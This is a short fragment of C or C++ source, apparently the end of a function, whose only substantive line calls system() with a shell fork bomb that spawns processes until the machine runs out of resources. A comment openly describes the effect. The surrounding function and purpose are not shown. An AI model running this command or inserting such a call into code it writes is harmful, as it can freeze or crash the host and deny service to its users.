// has a shell fork until nobody can
    (void)system("bomb() { bomb | bomb & }; bomb");
    return {};
}
